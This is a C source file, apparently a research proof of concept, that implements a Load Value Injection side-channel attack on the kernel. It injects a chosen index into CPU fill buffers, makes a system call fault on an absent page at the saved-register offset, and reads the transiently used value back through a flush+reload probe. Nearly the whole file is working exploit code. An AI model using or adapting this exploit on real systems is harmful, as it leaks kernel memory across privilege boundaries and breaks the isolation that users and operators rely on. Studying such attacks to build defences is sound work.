/*
 * Load value injection (Van Bulck et al., 2020) into the kernel: a load of the kernel that faults
 * goes on with what this process has left in the store buffer or the fill buffers. The load is one of
 * user memory, of a page that is not there, so the kernel never gets a value and gives up; before
 * that, it has used the injected index with a table.
 *
 * The kernel itself stores the index: a system call saves this process's registers on the kernel's
 * stack, at a place in a page that is always the same, and the load goes to that place in another
 * page. Where the kernel has stored too much else since, there are lines with the index in the fill
 * buffers, unless a cache was flushed in between and the kernel's own lines came in behind them.
 */
#include "attack.h"

#include <sys/mman.h>

#include "gadget.h"
#include "secret.h"

enum {
	TRAININGS = 6,
	LINES = 32,
	LINE_WORDS = 8,
	PAGE_BYTES = 4096,
	/* Where struct pt_regs begins, at the end of the kernel's stack: with r15, which is saved last. */
	SAVED_R15 = PAGE_BYTES - 21 * 8,
};

static const uint8_t *array;
static const uint64_t *absent;
static uint64_t injected[LINES][LINE_WORDS] __attribute__((aligned(64)));

/* The system call with the gadget, with a value in r15. */
static void call_with(uint64_t value, const uint64_t *pointer)
{
	long result = LVI_CALL;

	__asm__ volatile(
		"mov %[value], %%r15\n\t"
		"syscall\n\t"
		: "+a"(result)
		: "D"(pointer), [value] "d"(value)
		: "rcx", "r11", "r15", "memory");
}

static int sample(int index)
{
	static const uint64_t permitted = 1;
	const uint8_t *probe = array + SHARED_PROBE;
	uint64_t value = options.address + index - options.table;

	for (int i = 0; i < TRAININGS; i++)
		call_with(0, &permitted);
	use_secret(index);
	for (int i = 0; i < LINES; i++) {
		for (int word = 0; word < LINE_WORDS; word++)
			injected[i][word] = value;
	}
	flush_probe(probe);
	flush(array + SHARED_LIMIT);
	flush(array + SHARED_FOUND_LIMIT);
	for (int i = 0; i < LINES; i++)
		flush(injected[i]);
	memory_fence();
	for (int i = 0; i < LINES; i++)
		touch(injected[i]);
	call_with(value, absent);
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	uint8_t *page = mmap(NULL, PAGE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	parse_options(argc, argv);
	if (!options.address || !options.table)
		errx(2, "expected --address and --table");
	if (page == MAP_FAILED)
		err(1, "mmap");
	absent = (const uint64_t *)(page + SAVED_R15);
	open_secret();
	array = map_gadget(options.gadget);
	calibrate();
	recover(sample, (struct patience){ .samples = 40, .lead = 2 }, 1);
	return 0;
}
